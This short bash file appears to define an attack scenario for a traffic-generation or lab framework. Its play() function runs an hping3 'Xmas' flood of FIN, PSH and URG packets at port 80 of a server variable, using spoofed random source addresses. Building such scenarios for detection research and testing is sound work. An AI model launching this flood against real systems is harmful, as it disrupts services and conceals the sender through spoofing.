# shellcheck shell=bash
# about: FIN, PSH and URG (hping3)
# type: attack
# kind: xmas_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -F -P -U -p 80 --rand-source
}
